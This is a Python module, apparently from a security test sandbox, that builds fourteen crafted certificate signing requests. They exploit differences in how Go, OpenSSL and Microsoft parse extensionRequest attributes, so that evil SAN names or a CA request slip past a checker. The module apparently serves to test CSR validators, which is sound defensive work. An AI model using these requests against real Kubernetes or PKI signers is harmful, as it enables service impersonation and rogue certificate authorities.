"""Attacks by attributes: several that could hold the extensions that count.

From: RFC 2985 section 5.4.2; Go crypto/x509, parseCSRExtensions (all PKCS#9 extensionRequests, the
first value of each); OpenSSL X509_REQ_get_extensions (Microsoft's attribute too, the first found).
"""

from collections.abc import Callable

from sandbox.csr_builder import der
from sandbox.csr_builder.attack import Attack, genuine
from sandbox.csr_builder.keys import Key
from sandbox.csr_builder.request import (
    EXTENSION_REQUEST,
    Names,
    attribute,
    dns,
    extension,
    extension_request,
    microsoft_request,
    san_extension,
)

_CA = extension("2.5.29.19", der.sequence(der.boolean(0xFF)), der.boolean(0xFF))
_CERT_SIGN = extension("2.5.29.15", der.bits(b"\x04", 2))
_DIGITAL_SIGNATURE = extension("2.5.29.15", der.bits(b"\x80", 7))
_CHALLENGE_PASSWORD = "1.2.840.113549.1.9.7"


def _attributes(
    name: str,
    title: str,
    tries: str,
    attributes: Callable[[bytes, bytes, Names], tuple[bytes, ...]],
    *,
    hides: bool = False,
) -> Attack:
    """`attributes` gets the SAN extensions of the good and the evil names, and the evil names."""

    def make(key: Key, good: Names, evil: Names) -> bytes:
        found = attributes(san_extension(*good.sans), san_extension(*evil.sans), evil)
        return genuine(key, good).attributes(*found).pem()

    return Attack(
        f"attributes/{name}",
        title,
        tries,
        make,
        "request-well-formed",
        hides=hides,
        source="RFC 2985 section 5.4.2; Go crypto/x509 parseCSRExtensions",
    )


def _longer(evil: Names) -> bytes:
    """The evil names and more, so that DER sorts their attribute behind the good one."""
    return san_extension(*evil.sans, *map(dns, ("kubernetes.default.svc", "x" * 60)))


ATTRIBUTES = (
    _attributes(
        "microsoft-then-pkcs9",
        "Microsoft attribute hides the real one",
        "Shows the own names in Microsoft's attribute, and asks for others in the one Go reads.",
        lambda good, _, evil: (microsoft_request(good), extension_request(_longer(evil))),
        hides=True,
    ),
    _attributes(
        "microsoft-then-pkcs9-both",
        "Microsoft attribute hides one more name",
        "Shows the own names in Microsoft's attribute, and those and others in the one Go reads.",
        lambda good, _, evil: (
            microsoft_request(good),
            extension_request(_longer(evil), _DIGITAL_SIGNATURE),
        ),
        hides=True,
    ),
    _attributes(
        "microsoft-then-pkcs9-unsorted",
        "Microsoft attribute first, out of order",
        "Puts Microsoft's attribute first although DER sorts it last.",
        lambda good, evil, _: (
            microsoft_request(good, _DIGITAL_SIGNATURE, _CA),
            extension_request(evil),
        ),
    ),
    _attributes(
        "pkcs9-then-microsoft",
        "Microsoft attribute second",
        "Asks for the own names, and for others in Microsoft's attribute.",
        lambda good, _, evil: (extension_request(good), microsoft_request(_longer(evil))),
    ),
    _attributes(
        "microsoft-alone",
        "Microsoft attribute alone",
        "Has Microsoft's attribute only, so that Go sees no name at all.",
        lambda good, _, __: (microsoft_request(good),),
    ),
    _attributes(
        "two-requests",
        "Two extension requests",
        "Asks twice for SANs, the own and the evil ones.",
        lambda good, _, evil: (extension_request(good), extension_request(_longer(evil))),
    ),
    _attributes(
        "request-then-ca",
        "Second extension request for a CA",
        "Asks in a second attribute to become a certificate authority.",
        lambda good, _, __: (
            extension_request(good),
            extension_request(_CA, _CERT_SIGN, extension("1.2.3.4", bytes(100))),
        ),
    ),
    _attributes(
        "ca-then-request",
        "Evil names in the second request",
        "Asks for the evil names in the second attribute, and for something else in the first.",
        lambda _, evil, __: (extension_request(_CA), extension_request(evil)),
    ),
    _attributes(
        "key-usage-then-request",
        "Evil names behind a key usage",
        "Asks for a key usage in the first attribute and for the evil names in the second.",
        lambda _, evil, __: (extension_request(_DIGITAL_SIGNATURE), extension_request(evil)),
    ),
    _attributes(
        "two-values",
        "Two values in one attribute",
        "Gives extensionRequest two values, of which Go reads the first.",
        lambda good, evil, _: (
            attribute(EXTENSION_REQUEST, *sorted((der.sequence(good), der.sequence(evil)))),
        ),
    ),
    _attributes(
        "two-values-unsorted",
        "Two values in one attribute, evil first",
        "Gives extensionRequest two values, the evil one first whatever DER says.",
        lambda good, evil, _: (
            attribute(EXTENSION_REQUEST, der.sequence(evil, _CA), der.sequence(good)),
        ),
    ),
    _attributes(
        "san-twice",
        "SAN extension twice",
        "Asks twice for SANs in one extensionRequest.",
        lambda good, evil, _: (extension_request(good, evil),),
    ),
    _attributes(
        "challenge-password",
        "Challenge password beside the request",
        "Adds another attribute, which no kubelet sends.",
        lambda good, _, __: (
            attribute(_CHALLENGE_PASSWORD, der.utf8("x")),
            extension_request(good),
        ),
    ),
    _attributes(
        "none",
        "No attributes",
        "Asks for no extension, so for no name.",
        lambda _, __, ___: (),
    ),
)
